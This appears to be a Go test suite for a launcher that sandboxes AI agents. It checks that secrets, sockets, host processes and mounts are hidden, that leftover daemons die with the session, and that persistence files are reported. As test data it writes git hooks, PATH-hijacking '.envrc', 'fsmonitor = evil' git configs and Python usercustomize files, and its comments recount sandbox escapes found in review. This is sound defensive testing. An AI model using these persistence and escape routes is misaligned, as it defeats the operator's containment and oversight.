package kerneltest

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// TestEnvironment: the variables that point at the operator's services and
// the ones that look like secrets do not reach the agent unless the policy
// passes them (research/review.md 10); the start-up line names what was
// dropped, never a value; everything else passes.
func TestEnvironment(t *testing.T) {
	vars := []string{
		"SSH_AUTH_SOCK=/run/user/1000/ssh-agent.sock",
		"AWS_SECRET_ACCESS_KEY=aws-secret-value",
		"DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus",
		"GITHUB_TOKEN=ghp-token-value",
		"HARMLESS_SETTING=kept",
	}
	s := newSandbox(t, standard)
	s.extraEnv = vars
	for _, kv := range vars {
		name, value, _ := strings.Cut(kv, "=")
		if r := s.bare("getenv", name); r.line() != "ok "+value {
			t.Fatalf("control: the bare agent does not see %s: %s", name, r)
		}
	}
	for _, name := range []string{"SSH_AUTH_SOCK", "AWS_SECRET_ACCESS_KEY", "DBUS_SESSION_BUS_ADDRESS", "GITHUB_TOKEN"} {
		r := s.agent("getenv", name)
		wantErr(t, name+" inside", r, "ENOENT")
		if !strings.Contains(r.stderr, name) {
			t.Errorf("the start-up line does not name the dropped %s: %s", name, r.stderr)
		}
		for _, kv := range vars {
			if _, value, _ := strings.Cut(kv, "="); strings.Contains(r.stderr, value) {
				t.Errorf("the launcher printed the value of a variable: %s", r.stderr)
			}
		}
	}
	if r := s.agent("getenv", "HARMLESS_SETTING"); r.line() != "ok kept" {
		t.Errorf("an ordinary variable did not pass: %s", r)
	}

	// Passed by name, each reaches the agent.
	p := newSandbox(t, standard+"\n[env]\npass = [\"SSH_AUTH_SOCK\", \"AWS_SECRET_ACCESS_KEY\"]\n")
	p.extraEnv = vars
	if r := p.agent("getenv", "SSH_AUTH_SOCK"); r.line() != "ok /run/user/1000/ssh-agent.sock" {
		t.Errorf("SSH_AUTH_SOCK passed by the policy: %s", r)
	}
	if r := p.agent("getenv", "AWS_SECRET_ACCESS_KEY"); r.line() != "ok aws-secret-value" {
		t.Errorf("AWS_SECRET_ACCESS_KEY passed by the policy: %s", r)
	}
	wantErr(t, "GITHUB_TOKEN, not passed", p.agent("getenv", "GITHUB_TOKEN"), "ENOENT")
}

// TestSessionEndsWithLauncher: a launcher killed outright (SIGKILL, which
// it cannot catch) while its agent runs takes the session with it: PID 1
// dies by its parent-death signal, which is the signal of the thread that
// started it (the spawner, which lives as long as PID 1 or the process),
// and every process of the session ends with the PID namespace.
// Control: while the launcher lives, so does the agent.
func TestSessionEndsWithLauncher(t *testing.T) {
	s := newSandbox(t, standard)
	started := s.ws + "/started"
	cmd := exec.Command(launcher, "run", "--config", s.config, "--workspace", s.ws, "--",
		"/bin/sh", "-c", "touch "+started+"; exec sleep 30")
	cmd.Env, cmd.Dir = s.env(), s.ws
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer endsWithin(cmd, runTimeout)
	if !waitFile(started) {
		t.Fatalf("the agent never started")
	}
	var session []int
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		session = descendants(cmd.Process.Pid)
		if slices.ContainsFunc(session, func(pid int) bool { return comm(pid) == "sleep" }) {
			break
		}
	}
	if !slices.ContainsFunc(session, func(pid int) bool { return comm(pid) == "sleep" }) {
		t.Fatalf("control: the agent (sleep) is not among the launcher's descendants %v", session)
	}
	// The session is the agent and its PID 1 (the launcher's child). A
	// listing of children (/proc/PID/task/TID/children) may hold a stale
	// entry, which the kernel documents: in an emulated VM one was a
	// process already gone, and failed the control below.
	session = slices.DeleteFunc(session, func(pid int) bool {
		return comm(pid) != "sleep" && !slices.Contains(children(cmd.Process.Pid), pid)
	})
	time.Sleep(200 * time.Millisecond)
	for _, pid := range session {
		if st := procState(pid); st == 0 || st == 'Z' {
			t.Fatalf("control: %d (%s) of the session ended while the launcher lived", pid, comm(pid))
		}
	}
	cmd.Process.Kill()
	cmd.Wait()
	for _, pid := range session {
		deadline := time.Now().Add(10 * time.Second)
		for st := procState(pid); st != 0 && st != 'Z'; st = procState(pid) {
			if time.Now().After(deadline) {
				t.Errorf("%d (%s), of the session, outlived the launcher killed by SIGKILL (state %c)", pid, comm(pid), st)
				unix.Kill(pid, unix.SIGKILL)
				break
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
}

// children lists the children of pid (descendants' first level).
func children(pid int) []int {
	var out []int
	tasks, _ := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid))
	for _, task := range tasks {
		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%s/children", pid, task.Name()))
		for _, f := range strings.Fields(string(b)) {
			if c, err := strconv.Atoi(f); err == nil {
				out = append(out, c)
			}
		}
	}
	return out
}

// comm is the command name of process pid ("" when it is gone).
func comm(pid int) string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
	return strings.TrimSpace(string(b))
}

// TestNothingOutlivesSession: a double-forked daemon is gone when the
// agent exits (research/review.md 8): the session's PID namespace ends
// with its PID 1, the init stage. Control: without the launcher, the same
// daemon outlives its parent and reports.
func TestNothingOutlivesSession(t *testing.T) {
	s := newSandbox(t, standard)
	bareOut := s.ws + "/bare-daemon.out"
	wantOK(t, "control: bare daemon started", s.bare("daemon", bareOut, "sleep", "1500"))
	if r := s.bare("wait-file", bareOut, "10000"); !strings.Contains(r.line(), "ok") {
		t.Fatalf("control: the bare daemon did not outlive its parent: %s", r)
	}
	out := s.ws + "/daemon.out"
	wantOK(t, "daemon started inside", s.agent("daemon", out, "sleep", "1500"))
	if r := s.bare("wait-file", out, "4000"); !strings.Contains(r.line(), "ETIMEDOUT") {
		t.Errorf("the session's daemon outlived the session: %s", r)
	}
}

// TestSessionOverWhenRunReturns: when run has returned, no process of the
// session is left, not even for a moment: a process the agent left behind
// in the background, holding the agent's stdout, is gone, and so the pipe
// it held is at its end the instant run's exit is seen (run waits for the
// session's PID 1, whose exit ends every process of its namespace first),
// and run did not wait for it to end by itself. Control: without the
// launcher, the same process still holds the pipe after its parent's exit.
func TestSessionOverWhenRunReturns(t *testing.T) {
	s := newSandbox(t, standard)
	script := "(trap '' HUP INT TERM; sleep 60 &); exit 7"
	ended := func(bin string, args ...string) (code int, eof bool) {
		t.Helper()
		p := make([]int, 2)
		if err := unix.Pipe2(p, unix.O_CLOEXEC); err != nil {
			t.Fatal(err)
		}
		r, w := p[0], os.NewFile(uintptr(p[1]), "stdout")
		defer unix.Close(r)
		errf, err := os.CreateTemp(t.TempDir(), "stderr")
		if err != nil {
			t.Fatal(err)
		}
		defer errf.Close()
		// Bounded well below the leftover's 60 s: a run that waits for it
		// is killed, and fails below.
		ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, bin, args...)
		cmd.Env, cmd.Dir = s.env(), s.ws
		cmd.Stdout, cmd.Stderr = w, errf // files: Wait copies nothing, waits for no pipe
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		err = cmd.Start()
		w.Close()
		if err != nil {
			t.Fatal(err)
		}
		// The control's leftover is in the process group the shell led.
		defer unix.Kill(-cmd.Process.Pid, unix.SIGKILL)
		err = cmd.Wait()
		if ctx.Err() != nil {
			t.Fatalf("%s did not return within 15 s while the agent's leftover process slept 60 s", bin)
		}
		var ee *exec.ExitError
		if err != nil && !errors.As(err, &ee) {
			t.Fatal(err)
		}
		code = cmd.ProcessState.ExitCode()
		// At once, without waiting: 0 bytes is the end (no writer is
		// left), EAGAIN a writer still there.
		if err := unix.SetNonblock(r, true); err != nil {
			t.Fatal(err)
		}
		var b [64]byte
		n, err := unix.Read(r, b[:])
		if err != nil && err != unix.EAGAIN {
			t.Fatal(err)
		}
		if n > 0 {
			t.Fatalf("%s: unexpected output %q", bin, b[:n])
		}
		return code, err == nil
	}
	if code, eof := ended("/bin/sh", "-c", script); code != 7 || eof {
		t.Fatalf("control: bare, exit %d, the pipe at its end %v; want 7 and a background process still holding it", code, eof)
	}
	code, eof := ended(launcher, "run", "--config", s.config, "--workspace", s.ws, "--", "/bin/sh", "-c", script)
	if code != 7 {
		t.Errorf("run exited %d; want the agent's 7", code)
	}
	if !eof {
		t.Errorf("when run had returned, a process of the session still held its stdout")
	}
}

// TestViewPrivileges: the agent runs with no_new_privs and no capability,
// not even in the session's user namespace, with an empty bounding set
// (research/review.md 17), and the start-up line says the view is in force.
func TestViewPrivileges(t *testing.T) {
	s := newSandbox(t, standard)
	r := s.agent("read", "/proc/self/status")
	if r.code != 0 {
		t.Fatalf("read /proc/self/status inside: %s", r)
	}
	if !strings.Contains(r.stderr, "private view: own PID namespace") {
		t.Errorf("the start-up line does not name the private view: %s", r.stderr)
	}
	wantNoPrivileges(t, "inside", r.stdout)
	if b := s.bare("read", "/proc/self/status"); !strings.Contains(b.stdout, `NoNewPrivs:\t0`) {
		t.Errorf("control: the bare agent has no_new_privs already: %s", b)
	}
}

// wantNoPrivileges asserts that status (an agent's /proc/self/status)
// has no_new_privs and no capability in any set, the bounding set empty.
func wantNoPrivileges(t *testing.T, where, status string) {
	t.Helper()
	for _, want := range []string{`NoNewPrivs:\t1`, `CapEff:\t0000000000000000`, `CapPrm:\t0000000000000000`, `CapBnd:\t0000000000000000`, `CapAmb:\t0000000000000000`} {
		if !strings.Contains(status, want) {
			t.Errorf("%s /proc/self/status lacks %q: %s", where, want, status)
		}
	}
}

// TestNoViewPrivileges: without the view (user namespaces refused), an
// operator who holds capabilities (root, here root of a child user
// namespace, with every capability there) starts an agent that holds
// none, with an empty bounding set and no_new_privs, as with the view.
// An adversarial review found the fallback left a root agent every
// capability but one (CAP_SYS_MODULE among them).
func TestNoViewPrivileges(t *testing.T) {
	s := newSandbox(t, standard)
	bin, args := s.noViewArgs("", false, agent, "read", "/proc/self/status")
	r := s.exec(bin, args...)
	if r.code != 0 {
		t.Fatalf("read /proc/self/status inside: %s", r)
	}
	if !strings.Contains(r.stderr, "NO private view") {
		t.Fatalf("not a session without the view: %s", r.stderr)
	}
	wantNoPrivileges(t, "inside, without the view,", r.stdout)
	// Control: the same wrapper without the launcher holds capabilities.
	unshare := s.lookPath("unshare")
	b := s.exec(unshare, "-Ur", "/bin/sh", "-c", `echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"`, "sh", agent, "read", "/proc/self/status")
	if b.code != 0 || strings.Contains(b.stdout, `CapEff:\t0000000000000000`) || !strings.Contains(b.stdout, "CapEff:") {
		t.Errorf("control: the bare agent in the same wrapper holds no capability: %s", b)
	}
}

// TestViewWorkingDirInPrivateTmp: a working directory in the host's /tmp,
// outside the workspace, is not the host's inside the view: under a
// policy that grants /tmp (the default policy does), what the agent
// writes there stays in the session's private /tmp, as the policy's
// comment promises, while the workspace inside that directory is still
// the host's. An adversarial review planted a git hook in a repository
// beside the workspace this way; the operator's next checkout ran it.
func TestViewWorkingDirInPrivateTmp(t *testing.T) {
	s := newSandbox(t, "write_paths = [\"<workspace>/**\", \"/tmp/**\"]\n")
	cwd := hostTempDir(t, "/tmp", "agent-launcher-cwd-")
	for _, d := range []string{"repo/.git/hooks", "ws"} {
		if err := os.MkdirAll(filepath.Join(cwd, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	hook := filepath.Join(cwd, "repo/.git/hooks/post-checkout")
	run := func(ws string, args ...string) result {
		return s.execIn(cwd, launcher, append([]string{"run", "--config", s.config, "--workspace", ws, "--", agent}, args...)...)
	}
	for _, c := range []struct{ name, ws string }{{"workspace elsewhere", s.ws}, {"workspace inside the working directory", filepath.Join(cwd, "ws")}} {
		r := run(c.ws, "write", "repo/.git/hooks/post-checkout", "#!/bin/sh\nid\n")
		if !strings.Contains(r.stderr, "private view: own PID namespace") {
			t.Fatalf("%s: not a session with the view: %s", c.name, r.stderr)
		}
		if _, err := os.Lstat(hook); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%s: the agent's write in its working directory under /tmp reached the host's %s (%v): %s", c.name, hook, err, r)
			os.Remove(hook)
		}
		if r := run(c.ws, "write", c.ws+"/made", "1"); r.code != 0 {
			t.Errorf("control: %s: the agent writes its workspace: %s", c.name, r)
		} else if _, err := os.Stat(filepath.Join(c.ws, "made")); err != nil {
			t.Errorf("control: %s: the workspace's file is not the host's: %v", c.name, err)
		}
	}
	wantOK(t, "control: bare, the hook is planted", s.execIn(cwd, agent, "write", "repo/.git/hooks/post-checkout", "#!/bin/sh\nid\n"))
	if _, err := os.Stat(hook); err != nil {
		t.Errorf("control: bare, no hook: %v", err)
	}
}

// TestViewHidesOutsideProcesses: another process of the operator, with a
// secret on its command line, is not in the session's PID namespace, so
// the agent cannot read its command line (research/review.md 14).
func TestViewHidesOutsideProcesses(t *testing.T) {
	s := newSandbox(t, standard)
	const secret = "mysql-pw=hunter2-outside"
	cmd := exec.Command("/bin/sh", "-c", "sleep 60", "sh", secret)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	cmdline := fmt.Sprintf("/proc/%d/cmdline", cmd.Process.Pid)
	if r := s.bare("read", cmdline); !strings.Contains(r.stdout, "hunter2") {
		t.Fatalf("control: the bare agent cannot read the command line: %s", r)
	}
	wantErr(t, "read the outside process's command line", s.agent("read", cmdline), "ENOENT", "EACCES")
	r := s.sh("cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '; echo; ls /proc | grep -c '^[0-9]'")
	if strings.Contains(r.stdout, "hunter2") {
		t.Errorf("a command line inside the session holds the outside secret: %s", r)
	}
	if f := strings.Fields(r.stdout); len(f) == 0 || f[len(f)-1] == "" {
		t.Errorf("no process count: %s", r)
	} else if n, _ := strconv.Atoi(f[len(f)-1]); n < 2 || n > 10 {
		t.Errorf("the session's /proc lists %d processes; want the init stage and the agent's few: %s", n, r)
	}
}

// TestViewMountsPrivate: no mount of the session's view receives the
// host's later mounts (research/review.md 3): inside, no mount is shared
// with or a slave of a peer group outside, and, as root, a bind mount the
// host makes during the session does not appear inside. As root the test
// first makes its world a shared mount, as / is on systemd hosts (it is
// not on this machine), so that both checks could fail: with MS_SLAVE
// instead of MS_PRIVATE they do. Without root the harness cannot mount,
// and only the propagation check runs, which can fail only where some
// mount is shared.
func TestViewMountsPrivate(t *testing.T) {
	s := newSandbox(t, standard)
	root := os.Getuid() == 0
	if root {
		for _, args := range [][]string{{"--bind", s.dir, s.dir}, {"--make-shared", s.dir}} {
			if out, err := exec.Command("mount", args...).CombinedOutput(); err != nil {
				t.Fatalf("mount %q: %v: %s", args, err, out)
			}
		}
		defer exec.Command("umount", "-l", s.dir).Run()
	}
	host, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(host), " shared:") {
		t.Logf("no mount is shared here: the propagation check cannot fail on this machine")
	}
	r := s.agent("read", "/proc/self/mountinfo")
	if r.code != 0 || !strings.Contains(r.stdout, " / ") {
		t.Fatalf("mountinfo inside: %s", r)
	}
	for _, line := range strings.Split(r.stdout, `\n`) {
		if strings.Contains(line, " shared:") || strings.Contains(line, " master:") {
			t.Errorf("a mount inside still propagates: %s", line)
		}
	}
	if !root {
		t.Logf("not root: the host-side bind mount half needs root")
		return
	}
	secretDir := s.path("outside-secret")
	s.write("outside-secret/data", sshKey)
	target := s.ws + "/mnt"
	s.mkdir("home/proj/mnt")
	marker := s.ws + "/started"
	a := shq(agent)
	cmd := exec.Command(launcher, "run", "--config", s.config, "--workspace", s.ws, "--", "/bin/sh", "-c",
		a+" write "+shq(marker)+" x >/dev/null; "+a+" wait-file "+shq(s.ws+"/go")+" 10000 >/dev/null; exec "+a+" read "+shq(target+"/data"))
	cmd.Env = s.env()
	var out strings.Builder
	cmd.Stdout = &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Process.Kill()
	waitFor(t, marker)
	if err := exec.Command("mount", "--bind", secretDir, target).Run(); err != nil {
		t.Fatalf("bind mount on the host: %v", err)
	}
	defer exec.Command("umount", target).Run()
	if r := s.bare("read", target+"/data"); !strings.Contains(r.stdout, sshKey) {
		t.Fatalf("control: the host's bind mount is not there outside: %s", r)
	}
	os.WriteFile(s.ws+"/go", []byte("go"), 0o644)
	cmd.Wait()
	if strings.Contains(out.String(), sshKey) || !strings.Contains(out.String(), "err ENOENT") {
		t.Errorf("the host's bind mount made during the session reached the agent: %q", out.String())
	}
}

// TestStartInsideProtected: run refuses to start with the working
// directory or an inherited stdio fd inside a protected path
// (research/review.md 6); from the workspace, it runs.
func TestStartInsideProtected(t *testing.T) {
	s := newSandbox(t, standard)
	ssh := s.path("home/.ssh")
	r := s.execIn(ssh, launcher, "run", "--config", s.config, "--workspace", s.ws, "--", agent, "read", "id_ed25519")
	if r.code != 125 || !strings.Contains(r.stderr, "current directory") || strings.Contains(r.stdout, sshKey) {
		t.Errorf("run from inside ~/.ssh: %s", r)
	}
	key, err := os.Open(ssh + "/id_ed25519")
	if err != nil {
		t.Fatal(err)
	}
	defer key.Close()
	s.stdin = key
	r = s.exec(launcher, "run", "--config", s.config, "--workspace", s.ws, "--", agent, "read", "/dev/stdin")
	s.stdin = nil
	if r.code != 125 || !strings.Contains(r.stderr, "fd 0") || strings.Contains(r.stdout, sshKey) {
		t.Errorf("run with stdin on the key: %s", r)
	}
	wantOK(t, "control: run from the workspace", s.execIn(s.ws, launcher, "run", "--config", s.config, "--workspace", s.ws, "--", agent, "write", s.ws+"/x", "1"))

	// A directory as stdin: a handle opened outside the session's view,
	// through which names resolve past the view's mounts (the read-only
	// .git/config, the private /tmp, the hidden sockets): refused,
	// whatever directory it is (found in review).
	if _, err := os.Stat("/usr/bin/git"); err != nil {
		t.Fatalf("this test needs git: %v", err)
	}
	if out, err := exec.Command("git", "init", "-q", s.ws).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	hook := s.ws + "/.git/hooks/pre-commit"
	for dir, through := range map[string]string{s.ws + "/.git": "hooks/pre-commit", s.ws: ".git/hooks/pre-commit", "/tmp": "x"} {
		d, err := os.Open(dir)
		if err != nil {
			t.Fatal(err)
		}
		s.stdin = d
		if dir == s.ws+"/.git" {
			wantOK(t, "control: without the launcher, a hook is written through the directory handle", s.bare("write", "/proc/self/fd/0/hooks/pre-commit", "#!/bin/sh\n"))
			os.Remove(dir + "/hooks/pre-commit")
		}
		r := s.exec(launcher, "run", "--config", s.config, "--workspace", s.ws, "--", agent, "write", "/proc/self/fd/0/"+through, "#!/bin/sh\n")
		s.stdin = nil
		d.Close()
		if r.code != 125 || !strings.Contains(r.stderr, "fd 0") {
			t.Errorf("run with stdin a handle on the directory %s: %s", dir, r)
		}
	}
	if _, err := os.Stat(hook); err == nil {
		t.Errorf("a hook was planted through a directory handle")
	}
}

// TestSocketsHidden: the operator's D-Bus session socket (in
// $XDG_RUNTIME_DIR) is not in the session's view unless connect_paths
// names it; as root, a docker.sock stand-in under /var/run is masked too.
func TestSocketsHidden(t *testing.T) {
	s := newSandbox(t, standard)
	runtimeDir := s.path("run-user")
	s.mkdir("run-user")
	bus := runtimeDir + "/bus"
	serveUnix(t, bus)
	s.extraEnv = []string{"XDG_RUNTIME_DIR=" + runtimeDir}
	wantOK(t, "control: bare connects to the session bus", s.bare("connect-unix", bus))
	wantErr(t, "connect to the session bus inside", s.agent("connect-unix", bus), "ENOENT", "ECONNREFUSED", "EACCES")

	p := newSandbox(t, standard+fmt.Sprintf("connect_paths = [%q]\n", bus))
	p.extraEnv = s.extraEnv
	wantOK(t, "connect_paths names the bus: reachable", p.agent("connect-unix", bus))

	if os.Getuid() != 0 {
		t.Logf("not root: the docker.sock half needs root to listen under /var/run")
		return
	}
	const docker = "/run/docker.sock"
	if _, err := os.Lstat(docker); err == nil {
		t.Logf("%s exists on this machine; the stand-in is not made", docker)
		wantErr(t, "connect to docker.sock inside", s.agent("connect-unix", docker), "ECONNREFUSED", "ENOENT", "EACCES")
		return
	}
	dl, err := net.Listen("unix", docker)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { dl.Close(); os.Remove(docker) }()
	go acceptAll(dl)
	wantOK(t, "control: bare connects to the docker.sock stand-in", s.bare("connect-unix", "/var/run/docker.sock"))
	wantErr(t, "connect to the docker.sock stand-in inside", s.agent("connect-unix", "/var/run/docker.sock"), "ECONNREFUSED", "ENOENT", "EACCES")
}

// serveUnix listens on the unix socket path, accepting and closing every
// connection, until the test ends.
func serveUnix(t *testing.T, path string) {
	t.Helper()
	l, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go acceptAll(l)
}

func acceptAll(l net.Listener) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		c.Close()
	}
}

// TestNoViewFallback: where user namespaces are refused, run plans again
// without the private view, says so, and still ends the session's
// processes: the supervisor, a child subreaper, kills what the agent left
// running. The refusal is made inside a child user namespace whose
// user.max_user_namespaces is 0, which leaves the host untouched.
func TestNoViewFallback(t *testing.T) {
	s := newSandbox(t, standard)
	noNS := func(argv ...string) result {
		bin, args := s.noViewArgs("", false, argv...)
		return s.exec(bin, args...)
	}
	a := shq(agent)
	out := s.ws + "/waited.out"
	r := noNS("/bin/sh", "-c", a+" daemon "+shq(out)+" read "+shq(s.path("home/.ssh/id_ed25519"))+" && exec "+a+" wait-file "+shq(out)+" 10000")
	if !strings.Contains(r.stderr, "NO private view") {
		t.Fatalf("the start-up line does not say the view is missing: %s", r)
	}
	if !strings.Contains(r.line(), "err EACCES") || strings.Contains(r.stdout, sshKey) {
		t.Errorf("without the view, a daemon of the agent read the key, or did not run: %s", r)
	}
	left := s.ws + "/left.out"
	wantOK(t, "daemon started without the view", noNS(agent, "daemon", left, "sleep", "1500"))
	if r := s.bare("wait-file", left, "4000"); !strings.Contains(r.line(), "ETIMEDOUT") {
		t.Errorf("without the view, the session's daemon outlived the session: %s", r)
	}
}

// TestKnownLimitSocketInProtectedDir pins a documented limit found by an
// adversarial review of the session view (README, known limits): Landlock
// ABI 7 does not mediate connect(2) to pathname unix sockets, so a socket
// in a directory the policy denies (an ssh-agent started with
// -a ~/.ssh/agent.sock, gpg-agent's ~/.gnupg/S.gpg-agent), inside the part
// of the home directory the view keeps, is reachable while every file
// beside it is denied. The seccomp supervisor's connect mediation (and
// Landlock's RESOLVE_UNIX on newer ABIs) closes it; then this test fails
// and must be turned around.
func TestKnownLimitSocketInProtectedDir(t *testing.T) {
	s := newSandbox(t, standard)
	// A socket path is at most 107 bytes: listen through a short symlink
	// to ~/.ssh, connect from inside it.
	short, err := os.MkdirTemp("", "al-sock-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(short)
	if err := os.Symlink(s.path("home/.ssh"), short+"/ssh"); err != nil {
		t.Fatal(err)
	}
	serveUnix(t, short+"/ssh/agent.sock")
	wantErr(t, "the key beside the socket", s.agent("read", s.path("home/.ssh/id_ed25519")), "EACCES")
	connect := "cd " + shq(s.path("home/.ssh")) + " && exec " + shq(agent) + " connect-unix ./agent.sock"
	if r := s.bareSh(connect); r.code != 0 || !strings.HasPrefix(r.line(), "ok") {
		t.Fatalf("control: bare connect: %s", r)
	}
	if r := s.sh(connect); r.code != 0 || !strings.HasPrefix(r.line(), "ok") {
		t.Errorf("the documented limit changed: connecting to a socket in ~/.ssh is now %s; update the README and this test", r)
	}
}

// TestSessionReview: persistence files the agent creates where the floor
// lets it (a directory that was not carved) are listed at the session's
// end, on stderr and by `agent-launcher review`, and `review --remove`
// removes them; an ordinary file beside them is neither listed nor
// removed. A file the operator changed since is kept.
func TestSessionReview(t *testing.T) {
	s := newSandbox(t, standard)
	s.mkdir("home/proj/sub")
	a := shq(agent)
	r := s.sh(a + " write sub/.envrc 'export PATH=/tmp/evil:$PATH' && " + a + " write sub/.npmrc registry=evil && " + a + " write sub/notes.txt ordinary && " + a + " write sub/.vscode-not-tasks.json x")
	if r.code != 0 {
		t.Fatalf("the agent's writes: %s", r)
	}
	for _, want := range []string{"created " + s.ws + "/sub/.envrc", "created " + s.ws + "/sub/.npmrc"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("the session's end does not report %q: %s", want, r.stderr)
		}
	}
	if strings.Contains(r.stderr, "notes.txt") || strings.Contains(r.stderr, "not-tasks") {
		t.Errorf("an ordinary file is reported: %s", r.stderr)
	}
	j := s.exec(launcher, "review", "--json")
	var rep struct {
		Changes []struct{ Kind, Path string } `json:"changes"`
	}
	if err := json.Unmarshal([]byte(j.stdout), &rep); err != nil || len(rep.Changes) != 2 {
		t.Fatalf("review --json: %v: %s", err, j)
	}
	// The operator edits one of them before removing: it is kept.
	s.write("home/proj/sub/.npmrc", "registry=the-operator's")
	rm := s.exec(launcher, "review", "--remove")
	if rm.code != 0 || !strings.Contains(rm.stdout, "removed: "+s.ws+"/sub/.envrc") || !strings.Contains(rm.stdout, "kept (changed since the session ended): "+s.ws+"/sub/.npmrc") {
		t.Errorf("review --remove: %s", rm)
	}
	if _, err := os.Stat(s.ws + "/sub/.envrc"); !os.IsNotExist(err) {
		t.Errorf("sub/.envrc is still there: %v", err)
	}
	wantFile(t, s.ws+"/sub/.npmrc", "registry=the-operator's")
	wantFile(t, s.ws+"/sub/notes.txt", "ordinary")
	// A session that changes nothing reports nothing.
	if r := s.agent("write", s.ws+"/sub/notes.txt", "again"); strings.Contains(r.stderr, "session review") {
		t.Errorf("a session without changes reported: %s", r.stderr)
	}
	// Where the review must look too (adversarial review, H1): a nested
	// repository inside node_modules, whose config git outside obeys
	// through a gitlink, and a directory the agent made unreadable, which
	// git outside still passes through by name.
	nested := s.ws + "/node_modules/pkg/.git/config"
	hidden := s.ws + "/lib"
	r = s.sh("mkdir -p node_modules/pkg/.git lib/.git && printf '[core]\\n\\tfsmonitor = evil\\n' > node_modules/pkg/.git/config && " +
		"printf '[core]\\n\\tfsmonitor = evil\\n' > lib/.git/config && chmod 0311 lib")
	t.Cleanup(func() { os.Chmod(hidden, 0o755) })
	if r.code != 0 {
		t.Fatalf("the agent's nested repositories: %s", r)
	}
	if !strings.Contains(r.stderr, "created "+nested) {
		t.Errorf("the session's end does not report the repository in node_modules: %s", r.stderr)
	}
	// Root lists the 0311 directory anyway and finds the config in it.
	if !strings.Contains(r.stderr, "unreadable "+hidden+" ") && !strings.Contains(r.stderr, "created "+hidden+"/.git/config") {
		t.Errorf("the session's end does not report the directory the agent made unreadable: %s", r.stderr)
	}
	// The report lives in the launcher's state directory: a session cannot
	// rewrite it to hide its files or to aim --remove elsewhere.
	report := s.path("home/.local/state/agent-launcher/review/last.json")
	if _, err := os.Stat(report); err != nil {
		t.Fatalf("no review report where the test expects it: %v", err)
	}
	wantErr(t, "the agent rewrites the review report", s.agent("write", report, `{"planted":1}`), "EACCES")
	wantErr(t, "the agent renames a file over the review report", s.agent("rename", s.ws+"/sub/notes.txt", report), "EACCES", "EXDEV")
	if b, err := os.ReadFile(report); err != nil || strings.Contains(string(b), "planted") || !strings.Contains(string(b), `"schema": 1`) {
		t.Errorf("the review report is not the launcher's: %v %q", err, b)
	}
}

// TestHomeStartupFiles: under a policy that lets the agent write ~/.local
// and ~/.config, files programs outside run at their next start are write
// protected: Python's usercustomize.py is reported when the agent creates
// it (the operator's next python3 imports it), and direnv's directory,
// which exists, is read-only. An ordinary module beside it is neither.
// An adversarial review found usercustomize.py unprotected while *.pth
// beside it was.
func TestHomeStartupFiles(t *testing.T) {
	s := newSandbox(t, "write_paths = [\"<workspace>/**\", \"~/.local/**\", \"~/.config/**\", \"~/.vscode/**\"]\n")
	site := "home/.local/lib/python3.11/site-packages"
	s.mkdir(site)
	s.mkdir("home/.config/direnv")
	uc, ok, rc := s.path(site+"/usercustomize.py"), s.path(site+"/ok.py"), s.path("home/.config/direnv/direnvrc")
	r := s.agent("write", uc, "import os\n")
	wantOK(t, "the agent creates usercustomize.py (where the floor lets it)", r)
	if !strings.Contains(r.stderr, "created "+uc) {
		t.Errorf("the session's end does not report usercustomize.py: %s", r.stderr)
	}
	// Python imports a package or a sourceless module of that name too
	// (a second review ran both at the operator's next python3).
	for _, f := range []string{site + "/usercustomize/__init__.py", site + "/sitecustomize.pyc"} {
		if err := os.RemoveAll(s.path(site + "/usercustomize.py")); err != nil {
			t.Fatal(err)
		}
		r := s.sh("mkdir -p " + shq(filepath.Dir(s.path(f))) + " && " + shq(agent) + " write " + shq(s.path(f)) + " x")
		if r.code != 0 {
			t.Fatalf("the agent's %s: %s", f, r)
		}
		if !strings.Contains(r.stderr, "created "+s.path(f)) {
			t.Errorf("the session's end does not report %s: %s", f, r.stderr)
		}
	}
	r = s.agent("write", ok, "x = 1\n")
	wantOK(t, "control: an ordinary module beside it", r)
	if strings.Contains(r.stderr, "session review") {
		t.Errorf("an ordinary module is reported: %s", r.stderr)
	}
	wantErr(t, "the agent writes direnv's direnvrc", s.agent("write", rc, "eval evil\n"), "EROFS", "EACCES")
	wantOK(t, "control: bare writes direnvrc", s.bare("write", rc, "# operator\n"))
	// More that programs run or obey (a second review, from explain):
	// direnv's allow list (an .envrc allowed there runs without asking),
	// VS Code's extensions, lazy.nvim's plugins.
	for _, d := range []string{"home/.local/share/direnv/allow", "home/.vscode/extensions", "home/.local/share/nvim/lazy"} {
		s.mkdir(d)
		f := s.path(d + "/planted")
		wantErr(t, "the agent writes "+d, s.agent("write", f, "x"), "EROFS", "EACCES")
		wantOK(t, "control: bare writes "+d, s.bare("write", f, "x"))
	}
}

